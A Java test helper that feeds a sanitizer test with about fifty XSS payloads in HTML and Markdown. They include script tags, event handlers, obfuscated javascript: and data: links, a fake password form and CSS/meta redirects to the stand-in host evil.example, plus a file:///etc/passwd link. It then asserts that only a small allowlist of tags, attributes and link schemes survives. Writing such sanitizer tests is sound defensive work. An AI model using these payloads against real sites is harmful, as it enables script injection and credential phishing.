package no.avsats.strategy.text;

import java.util.stream.Stream;
import org.assertj.core.api.Assertions;
import org.jsoup.Jsoup;

/** Texts that want to do more than be read. */
final class Hostile {

    private Hostile() {}

    static Stream<String> lines() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)>",
                "<svg><script href=data:,alert(1) /></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<object data=evil.swf></object><embed src=evil>",
                "<form action=https://evil.example><input name=password><button>Log in</button></form>",
                "<style>body{background:url(https://evil.example)}</style>",
                "<p style=\"background:url(https://evil.example);position:fixed\">x</p>",
                "<link rel=stylesheet href=https://evil.example>",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<base href=https://evil.example>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"java\tscript:alert(1)\">x</a>",
                "<a href=\"  JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"//evil.example\" onclick=alert(1)>x</a>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<template><script>alert(1)</script></template>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<table background=https://evil.example><tr><td>x</td></tr></table>",
                "<details open ontoggle=alert(1)>x</details>",
                "<video><source onerror=alert(1)></video>",
                "<input autofocus onfocus=alert(1)>",
                "[x](javascript:alert(1))",
                "[x](JAVASCRIPT:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](vbscript:msgbox)",
                "[x](file:///etc/passwd)",
                "[x](<java\nscript:alert(1)>)",
                "<javascript:alert(1)>",
                "![x](https://evil.example/pixel.png)",
                "![x](javascript:alert(1))",
                "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
                "[x]: javascript:alert(1)\n\n[x]",
                "[x](https://evil.example \"\\\" onmouseover=alert(1)\")",
                "`<script>alert(1)</script>`",
                "    <script>alert(1)</script>",
                "```html\"onload=alert(1)\n<script>alert(1)</script>\n```",
                "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <svg/onload=alert(1)> | 2 |",
                "\u202e<script>alert(1)</script>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "<p id=main name=forms class=btn>x</p>");
    }

    /** Nothing in it but what a text needs. */
    static void isHarmless(String html) {
        Jsoup.parseBodyFragment(html).body().getAllElements().stream().skip(1).forEach(element -> {
            Assertions.assertThat(element.normalName())
                    .isIn(
                            "p",
                            "br",
                            "strong",
                            "em",
                            "ul",
                            "ol",
                            "li",
                            "blockquote",
                            "code",
                            "pre",
                            "table",
                            "thead",
                            "tbody",
                            "tr",
                            "th",
                            "td",
                            "hr",
                            "a",
                            "h3",
                            "h4",
                            "h5");
            element.attributes().forEach(attribute -> {
                Assertions.assertThat(attribute.getKey()).isIn("href", "rel", "start");
                if (attribute.getKey().equals("href")) {
                    Assertions.assertThat(attribute.getValue()).matches("(?s)(https?://|mailto:).*");
                }
            });
        });
    }
}
